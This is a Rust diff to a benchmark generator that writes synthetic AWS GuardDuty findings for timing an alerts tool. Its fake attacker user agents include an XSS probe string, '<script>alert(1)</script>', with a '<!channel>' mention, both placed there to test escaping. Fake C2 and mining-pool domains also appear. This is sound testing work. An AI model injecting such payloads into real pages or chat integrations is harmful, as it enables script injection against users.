@@ -37,6 +37,7 @@ use std::env;
 use std::fmt::Write as _;
 use std::fs::{self, File};
 use std::io::{BufWriter, Read, Write};
+use std::ops::RangeInclusive;
 use std::path::{Path, PathBuf};
 use std::process::{Child, Command, Stdio};
 use std::thread;
@@ -51,7 +52,7 @@ const BIN: &str = env!("CARGO_BIN_EXE_guardduty-alerts");
 /// Findings per gzip member.
 const MEMBER_FINDINGS: u64 = 50_000;
 /// Bump when the generator's output changes, so stale files are regenerated.
-const GENERATOR_VERSION: u32 = 1;
+const GENERATOR_VERSION: u32 = 2;
 /// Seed of the generator's PRNG: the same N always gives the same file.
 const SEED: u64 = 0x6775_6172_6464_7574;
 /// Speed-up over `zcat` the product aims for.
@@ -102,7 +103,7 @@ fn main() {
         "machine : {cpus} CPUs available to this process{}",
         cpu_model()
     );
-    println!("input   : {} findings, {}", meta.findings, meta.describe());
+    println!("input   : {} ({})", export.display(), meta.describe());
     println!("zcat    : zcat FILE > /dev/null");
     println!(
         "ours    : {BIN} process --format json FILE{}{} > /dev/null",
@@ -239,10 +240,11 @@ impl ExportMeta {
 
     fn describe(&self) -> String {
         format!(
-            "{} findings, {:.1} MB gzip in {} members, {:.1} MB decompressed, {:.0} bytes/finding",
+            "{} findings, {:.1} MB gzip in {} member{}, {:.1} MB decompressed, {:.0} bytes/finding",
             self.findings,
             mb(self.compressed_bytes),
             self.members,
+            if self.members == 1 { "" } else { "s" },
             mb(self.decompressed_bytes),
             self.decompressed_bytes as f64 / self.findings as f64,
         )
@@ -254,10 +256,7 @@ impl ExportMeta {
 fn generate(path: &Path, findings: u64) -> ExportMeta {
     let started = Instant::now();
     let tmp = path.with_extension("gz.partial");
-    let file =
-        File::create(&tmp).unwrap_or_else(|e| panic!("cannot create {}: {e}", tmp.display()));
-    let write_failed = |e: std::io::Error| -> ! { panic!("writing {} failed: {e}", tmp.display()) };
-
+    let file = must(File::create(&tmp), "creating", &tmp);
     let mut out = GzEncoder::new(
         BufWriter::with_capacity(1 << 20, file),
         Compression::default(),
@@ -268,27 +267,27 @@ fn generate(path: &Path, findings: u64) -> ExportMeta {
     let mut members = 1u64;
     for n in 0..findings {
         if n > 0 && n % MEMBER_FINDINGS == 0 {
-            let inner = out.finish().unwrap_or_else(|e| write_failed(e));
+            let inner = must(out.finish(), "writing", &tmp);
             out = GzEncoder::new(inner, Compression::default());
             members += 1;
         }
         line.clear();
         generator.finding(n, &mut line);
-        out.write_all(&line).unwrap_or_else(|e| write_failed(e));
+        must(out.write_all(&line), "writing", &tmp);
         decompressed_bytes += line.len() as u64;
     }
-    let mut buffered = out.finish().unwrap_or_else(|e| write_failed(e));
-    buffered.flush().unwrap_or_else(|e| write_failed(e));
-    let file = buffered
-        .into_inner()
-        .unwrap_or_else(|e| write_failed(e.into_error()));
-    file.sync_all().unwrap_or_else(|e| write_failed(e));
+    let buffered = must(out.finish(), "writing", &tmp);
+    let file = must(
+        buffered
+            .into_inner()
+            .map_err(std::io::IntoInnerError::into_error),
+        "writing",
+        &tmp,
+    );
+    must(file.sync_all(), "syncing", &tmp);
     drop(file);
-    fs::rename(&tmp, path)
-        .unwrap_or_else(|e| panic!("cannot rename {} to {}: {e}", tmp.display(), path.display()));
-    let compressed_bytes = fs::metadata(path)
-        .unwrap_or_else(|e| panic!("cannot stat {}: {e}", path.display()))
-        .len();
+    must(fs::rename(&tmp, path), "renaming", &tmp);
+    let compressed_bytes = must(fs::metadata(path), "reading the size of", path).len();
 
     ExportMeta {
         generator: GENERATOR_VERSION,
@@ -298,6 +297,11 @@ fn generate(path: &Path, findings: u64) -> ExportMeta {
         decompressed_bytes,
         generation_seconds: started.elapsed().as_secs_f64(),
     }
+}
+
+/// The value of `result`, or a panic saying what failed on which file.
+fn must<T>(result: std::io::Result<T>, doing: &str, path: &Path) -> T {
+    result.unwrap_or_else(|e| panic!("{doing} {} failed: {e}", path.display()))
 }
 
 /// Reads the export once so that neither tool pays for the first read from disk.
@@ -320,6 +324,15 @@ fn warm_page_cache(path: &Path) {
 struct Rng(u64);
 
 impl Rng {
+    /// A generator whose output depends only on `parts`: used for the attributes of a resource
+    /// that stay the same every time it appears in a finding.
+    fn keyed(parts: &[u64]) -> Self {
+        parts.iter().fold(Self(SEED), |mut rng, &part| {
+            rng.0 ^= part;
+            Self(rng.next())
+        })
+    }
+
     fn next(&mut self) -> u64 {
         self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
         let mut z = self.0;
@@ -338,8 +351,14 @@ impl Rng {
         lo + self.below(hi - lo + 1)
     }
 
+    /// Uniform in `0..len`.
     fn index(&mut self, len: usize) -> usize {
         usize::try_from(self.below(len as u64)).expect("an index below a usize fits a usize")
+    }
+
+    /// Seconds (as `i64`, for timestamp arithmetic) uniform in `0..n`.
+    fn secs(&mut self, n: u64) -> i64 {
+        i64::try_from(self.below(n)).expect("a bench time span fits an i64")
     }
 
     fn pick<T: Copy>(&mut self, items: &[T]) -> T {
@@ -355,7 +374,7 @@ impl Rng {
         self.chars(len, b"0123456789abcdef")
     }
 
-    /// `len` characters of an AWS-style upper-case id (`AKIA…`, `AROA…` suffixes).
+    /// `len` characters of an AWS-style unique id (the part after `AKIA`, `AROA`, `AIDA`…).
     fn upper(&mut self, len: usize) -> String {
         self.chars(len, b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")
     }
@@ -366,13 +385,25 @@ impl Rng {
             .collect()
     }
 
+    /// A random UUID-shaped string.
+    fn uuid(&mut self) -> String {
+        format!(
+            "{}-{}-4{}-{}-{}",
+            self.hex(8),
+            self.hex(4),
+            self.hex(3),
+            self.hex(4),
+            self.hex(12)
+        )
+    }
+
     /// A public-looking IPv4 address.
     fn public_ip(&mut self) -> String {
         const FIRST: [u8; 24] = [
             5, 23, 31, 37, 45, 46, 61, 77, 80, 85, 89, 91, 103, 109, 116, 141, 159, 176, 185, 193,
             194, 195, 212, 217,
         ];
-        let first = FIRST[self.index(FIRST.len())];
+        let first = self.pick(&FIRST);
         format!(
             "{first}.{}.{}.{}",
             self.below(256),
@@ -406,6 +437,13 @@ impl Rng {
     }
 }
 
+/// FNV-1a of `text`, to key [`Rng::keyed`] by name.
+fn key(text: &str) -> u64 {
+    text.bytes().fold(0xCBF2_9CE4_8422_2325, |hash, byte| {
+        (hash ^ u64::from(byte)).wrapping_mul(0x0100_0000_01B3)
+    })
+}
+
 /// Where an attacker connects from.
 struct Geo {
     country: &'static str,
@@ -436,21 +474,13 @@ const GEOS: [Geo; 14] = [
     Geo { country: "Singapore", code: "SG", city: "Singapore", lat: 1.2897, lon: 103.8501, asn: "63949", asn_org: "Akamai Connected Cloud", isp: "Linode" },
 ];
 
+#[rustfmt::skip]
 const REGIONS: [&str; 12] = [
-    "us-east-1",
-    "us-east-2",
-    "us-west-2",
-    "eu-west-1",
-    "eu-west-2",
-    "eu-central-1",
-    "eu-north-1",
-    "ap-southeast-2",
-    "ap-northeast-1",
-    "ap-south-1",
-    "ca-central-1",
-    "sa-east-1",
+    "us-east-1", "us-east-2", "us-west-2", "eu-west-1", "eu-west-2", "eu-central-1", "eu-north-1",
+    "ap-southeast-2", "ap-northeast-1", "ap-south-1", "ca-central-1", "sa-east-1",
 ];
 
+/// User agents as they reach findings; attacker-controlled, so some need escaping downstream.
 const USER_AGENTS: [&str; 8] = [
     "aws-cli/2.15.30 Python/3.11.8 Linux/5.15.0-1055-aws exe/x86_64.ubuntu.22 prompt/off command/s3.ls",
     "aws-cli/1.29.62 Python/3.11.6 Linux/6.5.0-kali3-amd64 botocore/1.31.62",
@@ -458,86 +488,91 @@ const USER_AGENTS: [&str; 8] = [
     "aws-sdk-go-v2/1.25.2 os/linux lang/go#1.22.1 md/GOOS#linux md/GOARCH#amd64 api/iam#1.31.2",
     "aws-sdk-java/2.25.11 Linux/5.10.210-201.852.amzn2.x86_64 OpenJDK_64-Bit_Server_VM/17.0.10+7-LTS Java/17.0.10 vendor/Amazon.com_Inc. io/sync http/Apache cfg/retry-mode/adaptive",
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
-    "python-requests/2.31.0 \"pacu/1.5.3\" <script>alert(1)</script>",
+    "python-requests/2.31.0 \"pacu/1.5.3\" <script>alert(1)</script> <!channel>",
     "[S3Browser/11.6.7 (https://s3browser.com)]",
 ];
 
+#[rustfmt::skip]
 const USER_NAMES: [&str; 10] = [
-    "deploy-bot",
-    "alice.martin",
-    "ci-runner",
-    "terraform",
-    "j.okafor",
-    "backup-svc",
-    "root",
-    "data-eng-etl",
-    "m.kowalski",
-    "break-glass-admin",
+    "deploy-bot", "alice.martin", "ci-runner", "terraform", "j.okafor", "backup-svc", "root",
+    "data-eng-etl", "m.kowalski", "break-glass-admin",
 ];
 
+#[rustfmt::skip]
 const ROLE_NAMES: [&str; 8] = [
-    "ec2-app-role",
-    "AWSReservedSSO_AdministratorAccess_4b1c9e2f8a7d6e5c",
-    "GitHubActionsDeploy",
-    "eks-node-group-role",
-    "lambda-ingest-role",
-    "OrganizationAccountAccessRole",
-    "ecsTaskExecutionRole",
-    "DataPipelineRole",
+    "ec2-app-role", "AWSReservedSSO_AdministratorAccess_4b1c9e2f8a7d6e5c", "GitHubActionsDeploy",
+    "eks-node-group-role", "lambda-ingest-role", "OrganizationAccountAccessRole",
+    "ecsTaskExecutionRole", "DataPipelineRole",
 ];
 
+#[rustfmt::skip]
 const TEAMS: [&str; 8] = [
-    "payments",
-    "platform",
-    "data-eng",
-    "identity",
-    "search",
-    "growth",
-    "security",
-    "mobile-api",
+    "payments", "platform", "data-eng", "identity", "search", "growth", "security", "mobile-api",
 ];
 
+#[rustfmt::skip]
 const APPS: [&str; 10] = [
-    "checkout-api",
-    "ledger",
-    "image-resizer",
-    "auth-gateway",
-    "reporting",
-    "etl-nightly",
-    "web-frontend",
-    "notification-svc",
-    "inventory",
-    "ml-feature-store",
+    "checkout-api", "ledger", "image-resizer", "auth-gateway", "reporting", "etl-nightly",
+    "web-frontend", "notification-svc", "inventory", "ml-feature-store",
 ];
 
+#[rustfmt::skip]
 const DOMAINS: [&str; 10] = [
-    "xmr.pool.minergate.com",
-    "pool.supportxmr.com",
-    "c2.update-check.net",
-    "login.micros0ft-secure.com",
-    "api.pastebin-cdn.org",
-    "gulf.moneroocean.stream",
-    "dl.free-vpn-proxy.ru",
-    "cdn.jsdelivr-static.info",
-    "mining.nicehash-api.io",
+    "xmr.pool.minergate.com", "pool.supportxmr.com", "c2.update-check.net",
+    "login.micros0ft-secure.com", "api.pastebin-cdn.org", "gulf.moneroocean.stream",
+    "dl.free-vpn-proxy.ru", "cdn.jsdelivr-static.info", "mining.nicehash-api.io",
     "telemetry.win-updates.xyz",
 ];
+
+/// 2025-03-01T00:00:00Z: findings of the export were first seen in the 90 days after it.
+const EPOCH_START: i64 = 1_740_787_200;
+
+/// A member account of the organisation whose findings the export carries.
+struct Account {
+    id: String,
+    /// Keys the account's stable resources.
+    seed: u64,
+    /// Where most of its workloads run.
+    home_region: &'static str,
+}
 
 /// Produces one synthetic finding after another.
 struct Generator {
     rng: Rng,
-    accounts: Vec<(String, String)>,
+    accounts: Vec<Account>,
 }
 
 /// What all templates share for one finding.
 struct Ctx {
     account: String,
-    detector: String,
+    account_seed: u64,
     region: &'static str,
+    detector: String,
     id: String,
     first_seen: i64,
     last_seen: i64,
     count: u64,
+}
+
+impl Ctx {
+    /// A generator for one of the `pool` resources of `kind` in this account and region, drawn
+    /// at random: the same resource comes back with the same attributes in later findings.
+    fn resource(&self, rng: &mut Rng, kind: &str, pool: u64) -> Rng {
+        Rng::keyed(&[
+            self.account_seed,
+            key(kind),
+            key(self.region),
+            rng.below(pool),
+        ])
+    }
+
+    fn arn(&self, service: &str, rest: &str) -> String {
+        format!("arn:aws:{service}:{}:{}:{rest}", self.region, self.account)
+    }
+
+    fn ecr(&self) -> String {
+        format!("{}.dkr.ecr.{}.amazonaws.com", self.account, self.region)
+    }
 }
 
 /// The parts of a finding a template decides.
@@ -555,9 +590,10 @@ impl Generator {
         let mut rng = Rng(seed);
         // An administrator account's export carries its member accounts' findings too.
         let accounts = (0..40)
-            .map(|_| {
-                let account = format!("{:012}", rng.below(1_000_000_000_000));
-                (account, rng.hex(32))
+            .map(|_| Account {
+                id: format!("{:012}", rng.below(1_000_000_000_000)),
+                seed: rng.next(),
+                home_region: rng.pick(&REGIONS),
             })
             .collect();
         Self { rng, accounts }
@@ -565,20 +601,32 @@ impl Generator {
 
     /// Appends finding number `n` as one JSON line (with its `\n`) to `out`.
     fn finding(&mut self, n: u64, out: &mut Vec<u8>) {
-        let (account, detector) = self.accounts[self.rng.index(self.accounts.len())].clone();
-        // Findings of one export span up to three months; the last sighting is within a week.
-        let first_seen = 1_740_787_200 + i64::try_from(self.rng.below(90 * 86_400)).expect("fits");
-        let last_seen = first_seen + i64::try_from(self.rng.below(7 * 86_400)).expect("fits");
+        let rng = &mut self.rng;
+        let account = &self.accounts[rng.index(self.accounts.len())];
+        let region = if rng.chance(75) {
+            account.home_region
+        } else {
+            rng.pick(&REGIONS)
+        };
+        // Detectors are regional: one per account and region.
+        let detector = Rng::keyed(&[account.seed, key("detector"), key(region)]).hex(32);
+        let first_seen = EPOCH_START + rng.secs(90 * 86_400);
+        let count = rng.count();
+        let last_seen = if count == 1 {
+            first_seen
+        } else {
+            first_seen + rng.secs(7 * 86_400)
+        };
         let cx = Ctx {
-            account,
+            account: account.id.clone(),
+            account_seed: account.seed,
+            region,
             detector,
-            region: REGIONS[self.rng.index(REGIONS.len())],
-            id: self.rng.hex(32),
+            id: rng.hex(32),
             first_seen,
             last_seen,
-            count: self.rng.count(),
+            count,
         };
-        let rng = &mut self.rng;
         let body = match n % 13 {
             0 => ec2_port_probe(rng, &cx),
             1 => ec2_inbound_connection(rng, &cx),
@@ -594,23 +642,19 @@ impl Generator {
             11 => lambda_network(rng, &cx),
             _ => attack_sequence(rng, &cx),
         };
-        let created_ms =
-            cx.first_seen * 1000 + 20_000 + i64::try_from(rng.below(280_000)).expect("fits");
-        let updated_ms = if cx.count == 1 {
-            created_ms
-        } else {
-            (cx.last_seen * 1000 + 20_000 + i64::try_from(rng.below(280_000)).expect("fits"))
-                .max(created_ms)
-        };
+        // GuardDuty creates a finding a few minutes after the activity and updates it after the
+        // last sighting.
+        let created_ms = cx.first_seen * 1000 + 20_000 + rng.secs(280_000);
+        let updated_ms = (cx.last_seen * 1000 + 20_000 + rng.secs(280_000)).max(created_ms);
         // Attack sequences carry the `YYYY-MM-DD HH:MM:SS.mmm` form seen in real exports.
         let stamp = if body.kind.starts_with("AttackSequence:") {
             sql_ms
         } else {
             iso_ms
         };
-        let arn = format!(
-            "arn:aws:guardduty:{}:{}:detector/{}/finding/{}",
-            cx.region, cx.account, cx.detector, cx.id
+        let arn = cx.arn(
+            "guardduty",
+            &format!("detector/{}/finding/{}", cx.detector, cx.id),
         );
 
         // Top-level keys in the order of the API model; nested objects come out key-sorted.
@@ -632,11 +676,11 @@ impl Generator {
             ("confidence", json!(rng.range(5, 9))),
         ];
         out.push(b'{');
-        for (i, (key, value)) in fields.iter().enumerate() {
+        for (i, (name, value)) in fields.iter().enumerate() {
             if i > 0 {
                 out.push(b',');
             }
-            serde_json::to_writer(&mut *out, key).expect("serialising into a Vec cannot fail");
+            serde_json::to_writer(&mut *out, name).expect("serialising into a Vec cannot fail");
             out.push(b':');
             serde_json::to_writer(&mut *out, value).expect("serialising into a Vec cannot fail");
         }
@@ -660,17 +704,22 @@ fn civil(days: i64) -> (i64, i64, i64) {
     (year, month, day)
 }
 
-fn split_ms(epoch_ms: i64) -> (i64, i64, i64, i64, i64, i64, i64) {
+/// `(date, time)` of epoch milliseconds: `("2025-03-14", "09:26:53.123")`.
+fn date_time(epoch_ms: i64) -> (String, String) {
     let (secs, ms) = (epoch_ms.div_euclid(1000), epoch_ms.rem_euclid(1000));
     let (days, rem) = (secs.div_euclid(86_400), secs.rem_euclid(86_400));
     let (y, mo, d) = civil(days);
-    (y, mo, d, rem / 3600, rem % 3600 / 60, rem % 60, ms)
+    let (h, mi, s) = (rem / 3600, rem % 3600 / 60, rem % 60);
+    (
+        format!("{y:04}-{mo:02}-{d:02}"),
+        format!("{h:02}:{mi:02}:{s:02}.{ms:03}"),
+    )
 }
 
 /// `2025-03-14T09:26:53.123Z`
 fn iso_ms(epoch_ms: i64) -> String {
-    let (y, mo, d, h, mi, s, ms) = split_ms(epoch_ms);
-    format!("{y:04}-{mo:02}-{d:02}T{h:02}:{mi:02}:{s:02}.{ms:03}Z")
+    let (date, time) = date_time(epoch_ms);
+    format!("{date}T{time}Z")
 }
 
 /// `2025-03-14T09:26:53.000Z`, as GuardDuty writes `eventFirstSeen` / `eventLastSeen`.
@@ -680,45 +729,40 @@ fn iso_s(epoch_s: i64) -> String {
 
 /// `2025-03-14 09:26:53.123`
 fn sql_ms(epoch_ms: i64) -> String {
-    let (y, mo, d, h, mi, s, ms) = split_ms(epoch_ms);
-    format!("{y:04}-{mo:02}-{d:02} {h:02}:{mi:02}:{s:02}.{ms:03}")
+    let (date, time) = date_time(epoch_ms);
+    format!("{date} {time}")
 }
 
-/// Seconds before `t`, up to `max_days` days.
-fn before(rng: &mut Rng, t: i64, max_days: u64) -> i64 {
-    t - i64::try_from(rng.range(3600, max_days * 86_400)).expect("fits")
-}
-
-/// Epoch seconds with milliseconds as a float, as some details carry them (`1741000000.123`).
-fn epoch_float(rng: &mut Rng, t: i64) -> Value {
-    json!(t as f64 + rng.below(1000) as f64 / 1000.0)
+/// Epoch seconds with milliseconds as a float (`1741000000.123`), up to `max_days` days before
+/// `t`, as some resource details carry their creation times.
+fn epoch_before(rng: &mut Rng, t: i64, max_days: u64) -> Value {
+    let when = t - 3600 - rng.secs(max_days * 86_400);
+    json!(when as f64 + rng.below(1000) as f64 / 1000.0)
 }
 
 // --- shared pieces ---------------------------------------------------------------------------
 
-/// Epoch seconds (as a float) up to `max_days` days before `t`.
-fn epoch_before(rng: &mut Rng, t: i64, max_days: u64) -> Value {
-    let when = before(rng, t, max_days);
-    epoch_float(rng, when)
-}
-
-/// A severity: mostly the type's usual band value, sometimes written as a float, sometimes an
-/// adjusted decimal (GuardDuty lowers or raises some findings within their band).
+/// A severity around `base` (the type's usual value): mostly `base` itself, sometimes written
+/// as a float (`8.0`), a neighbouring integer or a decimal within the same band (`6.95`).
 fn severity(rng: &mut Rng, base: u64) -> Value {
-    match rng.below(10) {
-        0..=5 => json!(base),
-        6 | 7 => json!(base as f64),
+    const DECIMALS: [f64; 9] = [1.5, 2.5, 3.9, 4.5, 5.3, 6.95, 7.2, 7.8, 8.9];
+    match rng.below(20) {
+        0..=10 => json!(base),
+        11..=13 => json!(base as f64),
+        14..=16 => json!(if base > 1 && rng.chance(50) {
+            base - 1
+        } else {
+            (base + 1).min(8)
+        }),
         _ => {
-            let decimals: [f64; 9] = [1.5, 2.5, 3.9, 4.5, 5.3, 6.95, 7.2, 7.8, 8.9];
-            let near = decimals
-                .iter()
-                .copied()
+            let near: Vec<f64> = DECIMALS
+                .into_iter()
                 .filter(|d| (d - base as f64).abs() < 2.0)
-                .collect::<Vec<_>>();
+                .collect();
             if near.is_empty() {
                 json!(base)
             } else {
-                json!(near[rng.index(near.len())])
+                json!(rng.pick(&near))
             }
         }
     }
@@ -726,9 +770,11 @@ fn severity(rng: &mut Rng, base: u64) -> Value {
 
 fn remote_ip_details(rng: &mut Rng, ip: &str) -> Value {
     let geo = &GEOS[rng.index(GEOS.len())];
-    let jitter = |rng: &mut Rng| (rng.below(2001) as f64 - 1000.0) / 10_000.0;
-    let lat = ((geo.lat + jitter(rng)) * 10_000.0).round() / 10_000.0;
-    let lon = ((geo.lon + jitter(rng)) * 10_000.0).round() / 10_000.0;
+    let mut jitter = |degrees: f64| {
+        let moved = degrees + (rng.below(2001) as f64 - 1000.0) / 10_000.0;
+        (moved * 10_000.0).round() / 10_000.0
+    };
+    let (lat, lon) = (jitter(geo.lat), jitter(geo.lon));
     json!({
         "ipAddressV4": ip,
         "organization": { "asn": geo.asn, "asnOrg": geo.asn_org, "isp": geo.isp, "org": geo.isp },
@@ -739,29 +785,26 @@ fn remote_ip_details(rng: &mut Rng, ip: &str) -> Value {
 }
 
 fn threat_intel(rng: &mut Rng) -> Value {
-    let lists: [&str; 4] = ["ProofPoint", "CrowdStrike", "Amazon", "TorExitNodes"];
-    let names: [&str; 6] = [
+    let list = rng.pick(&["ProofPoint", "CrowdStrike", "Amazon", "TorExitNodes"]);
+    let name = rng.pick(&[
         "TOR exit node",
         "Cryptocurrency mining pool",
         "Known C2 server",
         "SSH brute force source",
         "Malware distribution host",
         "Scanner",
-    ];
+    ]);
     json!({
-        "threatIntelligenceDetails": [{
-            "threatListName": lists[rng.index(lists.len())],
-            "threatNames": [names[rng.index(names.len())]],
-        }]
+        "threatIntelligenceDetails": [{ "threatListName": list, "threatNames": [name] }]
     })
 }
 
-/// Between `n.start()` and `n.end()` resource tags, `Name` first, drawn from the kind of tagging policy organisations use.
-fn tags(rng: &mut Rng, name: &str, n: std::ops::RangeInclusive<u64>) -> Value {
-    let n = usize::try_from(rng.range(*n.start(), *n.end())).expect("a tag count fits a usize");
-    let mut out = vec![json!({ "key": "Name", "value": name })];
-    let team = TEAMS[rng.index(TEAMS.len())];
-    let app = APPS[rng.index(APPS.len())];
+/// Between `counts.start()` and `counts.end()` resource tags, `Name` first, as an
+/// organisation's tagging policy would have them.
+fn tags(rng: &mut Rng, name: &str, app: &str, counts: RangeInclusive<u64>) -> Value {
+    let n = usize::try_from(rng.range(*counts.start(), *counts.end()))
+        .expect("a tag count fits a usize");
+    let team = rng.pick(&TEAMS);
     let env = rng.pick(&["production", "staging", "dev", "qa", "sandbox"]);
     let candidates: [(&str, String); 12] = [
         ("Environment", env.to_owned()),
@@ -794,6 +837,7 @@ fn tags(rng: &mut Rng, name: &str, n: std::ops::RangeInclusive<u64>) -> Value {
             format!("v{}.{}.{}", rng.below(4), rng.below(30), rng.below(20)),
         ),
     ];
+    let mut out = vec![json!({ "key": "Name", "value": name })];
     out.extend(
         candidates
             .into_iter()
@@ -803,101 +847,104 @@ fn tags(rng: &mut Rng, name: &str, n: std::ops::RangeInclusive<u64>) -> Value {
     Value::Array(out)
 }
 
-fn instance_id(rng: &mut Rng) -> String {
-    format!("i-{}", rng.hex(17))
-}
-
-fn instance_details(rng: &mut Rng, cx: &Ctx, instance: &str) -> Value {
-    let private_ip = rng.private_ip();
-    let public_ip = rng.public_ip();
-    let private_dns = format!(
-        "ip-{}.{}.compute.internal",
-        private_ip.replace('.', "-"),
-        if cx.region == "us-east-1" {
-            "ec2"
-        } else {
-            cx.region
-        }
-    );
-    let public_dns = if cx.region == "us-east-1" {
-        format!(
-            "ec2-{}.compute-1.amazonaws.com",
-            public_ip.replace('.', "-")
+/// An EC2 instance of the account: its id and its `instanceDetails`.
+fn instance(rng: &mut Rng, cx: &Ctx) -> (String, Value) {
+    let mut r = cx.resource(rng, "instance", 40);
+    let id = format!("i-{}", r.hex(17));
+    let app = r.pick(&APPS);
+    let private_ip = r.private_ip();
+    let public_ip = r.public_ip();
+    let dashed_public = public_ip.replace('.', "-");
+    let (private_dns, public_dns) = if cx.region == "us-east-1" {
+        (
+            format!("ip-{}.ec2.internal", private_ip.replace('.', "-")),
+            format!("ec2-{dashed_public}.compute-1.amazonaws.com"),
         )
     } else {
-        format!(
-            "ec2-{}.{}.compute.amazonaws.com",
-            public_ip.replace('.', "-"),
-            cx.region
+        (
+            format!(
+                "ip-{}.{}.compute.internal",
+                private_ip.replace('.', "-"),
+                cx.region
+            ),
+            format!("ec2-{dashed_public}.{}.compute.amazonaws.com", cx.region),
         )
     };
-    let app = APPS[rng.index(APPS.len())];
-    let groups: Vec<Value> = (0..rng.range(1, 3))
-        .map(|i| {
-            let name = [format!("{app}-sg"), "default".to_owned(), "bastion-ssh".to_owned()];
-            json!({ "groupName": name[usize::try_from(i).expect("fits")], "groupId": format!("sg-{}", rng.hex(17)) })
-        })
+    let group_names = [
+        format!("{app}-sg"),
+        "default".to_owned(),
+        "bastion-ssh".to_owned(),
+    ];
+    let groups: Vec<Value> = group_names
+        .into_iter()
+        .take(r.index(3) + 1)
+        .map(|name| json!({ "groupName": name, "groupId": format!("sg-{}", r.hex(17)) }))
         .collect();
-    let windows = rng.chance(12);
-    let name = format!("{app}-{}", rng.below(40));
-    json!({
-        "instanceId": instance,
-        "instanceType": rng.pick(&["t3.medium", "m5.xlarge", "c6i.2xlarge", "r6g.large", "m7i.4xlarge", "t3a.small", "g5.xlarge"]),
-        "launchTime": iso_s(before(rng, cx.first_seen, 400)),
+    let windows = r.chance(12);
+    let image = if windows {
+        "Microsoft Windows Server 2022 Full Locale English AMI provided by Amazon"
+    } else {
+        r.pick(&[
+            "Amazon Linux 2023 AMI 2023.4.20240401.1 x86_64 HVM kernel-6.1",
+            "Canonical, Ubuntu, 22.04 LTS, amd64 jammy image build on 2024-03-01",
+            "Amazon EKS optimized Amazon Linux 2 AMI, Kubernetes 1.29",
+            "Debian 12 (20240211-1654)",
+        ])
+    };
+    let name = format!("{app}-{}", r.below(40));
+    let details = json!({
+        "instanceId": id,
+        "instanceType": r.pick(&["t3.medium", "m5.xlarge", "c6i.2xlarge", "r6g.large", "m7i.4xlarge", "t3a.small", "g5.xlarge"]),
+        "launchTime": iso_s(EPOCH_START - 3600 - r.secs(400 * 86_400)),
         "platform": if windows { json!("windows") } else { Value::Null },
         "productCodes": [],
         "iamInstanceProfile": {
             "arn": format!("arn:aws:iam::{}:instance-profile/{app}-instance-profile", cx.account),
-            "id": format!("AIPA{}", rng.upper(17)),
+            "id": format!("AIPA{}", r.upper(17)),
         },
         "networkInterfaces": [{
             "ipv6Addresses": [],
-            "networkInterfaceId": format!("eni-{}", rng.hex(17)),
+            "networkInterfaceId": format!("eni-{}", r.hex(17)),
             "privateDnsName": private_dns,
             "privateIpAddress": private_ip,
             "privateIpAddresses": [{ "privateDnsName": private_dns, "privateIpAddress": private_ip }],
-            "subnetId": format!("subnet-{}", rng.hex(17)),
-            "vpcId": format!("vpc-{}", rng.hex(17)),
+            "subnetId": format!("subnet-{}", r.hex(17)),
+            "vpcId": format!("vpc-{}", r.hex(17)),
             "securityGroups": groups,
             "publicDnsName": public_dns,
             "publicIp": public_ip,
         }],
         "outpostArn": null,
-        "tags": tags(rng, &name, 6..=11),
+        "tags": tags(&mut r, &name, app, 6..=11),
         "instanceState": "running",
-        "availabilityZone": format!("{}{}", cx.region, rng.pick(&["a", "b", "c"])),
-        "imageId": format!("ami-{}", rng.hex(17)),
-        "imageDescription": if windows {
-            "Microsoft Windows Server 2022 Full Locale English AMI provided by Amazon"
-        } else {
-            rng.pick(&[
-                "Amazon Linux 2023 AMI 2023.4.20240401.1 x86_64 HVM kernel-6.1",
-                "Canonical, Ubuntu, 22.04 LTS, amd64 jammy image build on 2024-03-01",
-                "Amazon EKS optimized Amazon Linux 2 AMI, Kubernetes 1.29",
-                "Debian 12 (20240211-1654)",
-            ])
-        },
-    })
+        "availabilityZone": format!("{}{}", cx.region, r.pick(&["a", "b", "c"])),
+        "imageId": format!("ami-{}", r.hex(17)),
+        "imageDescription": image,
+    });
+    (id, details)
 }
 
-fn access_key_details(rng: &mut Rng) -> (Value, &'static str) {
-    let user = USER_NAMES[rng.index(USER_NAMES.len())];
-    let value = if rng.chance(60) {
+/// The caller behind an API call: `accessKeyDetails` and the user name.
+fn access_key(rng: &mut Rng, cx: &Ctx) -> (Value, &'static str) {
+    let mut r = cx.resource(rng, "principal", 12);
+    let user = r.pick(&USER_NAMES);
+    let details = if r.chance(60) {
+        // A role session: the temporary key changes every time.
         json!({
             "accessKeyId": format!("ASIA{}", rng.upper(16)),
-            "principalId": format!("AROA{}:{user}", rng.upper(17)),
-            "userName": ROLE_NAMES[rng.index(ROLE_NAMES.len())],
+            "principalId": format!("AROA{}:{user}", r.upper(17)),
+            "userName": r.pick(&ROLE_NAMES),
             "userType": "AssumedRole",
         })
     } else {
         json!({
-            "accessKeyId": format!("AKIA{}", rng.upper(16)),
-            "principalId": format!("AIDA{}", rng.upper(17)),
+            "accessKeyId": format!("AKIA{}", r.upper(16)),
+            "principalId": format!("AIDA{}", r.upper(17)),
             "userName": user,
             "userType": if user == "root" { "Root" } else { "IAMUser" },
         })
     };
-    (value, user)
+    (details, user)
 }
 
 /// The `service` object every finding has; templates add their own keys to it.
@@ -917,7 +964,7 @@ fn service(cx: &Ctx, feature: &str, action: Value, additional: Value, evidence: 
     })
 }
 
-/// `additionalInfo` in its modern shape: the object plus the same object as a JSON string.
+/// `additionalInfo` in its current shape: the fields, plus the same fields as a JSON string.
 fn additional_info(mut fields: Value) -> Value {
     let value = fields.to_string();
     if let Value::Object(map) = &mut fields {
@@ -927,6 +974,7 @@ fn additional_info(mut fields: Value) -> Value {
     fields
 }
 
+/// `object` with `key` set to `value`.
 fn with(mut object: Value, key: &str, value: Value) -> Value {
     if let Value::Object(map) = &mut object {
         map.insert(key.to_owned(), value);
@@ -934,208 +982,25 @@ fn with(mut object: Value, key: &str, value: Value) -> Value {
     object
 }
 
-// --- templates -------------------------------------------------------------------------------
-
-fn ec2_port_probe(rng: &mut Rng, cx: &Ctx) -> Body {
-    let instance = instance_id(rng);
-    let local_ip = rng.private_ip();
-    let ports: [(u64, &str); 8] = [
-        (22, "SSH"),
-        (3389, "RDP"),
-        (80, "HTTP"),
-        (443, "HTTPS"),
-        (5432, "POSTGRESQL"),
-        (3306, "MYSQL"),
-        (6379, "Unknown"),
-        (9200, "Unknown"),
-    ];
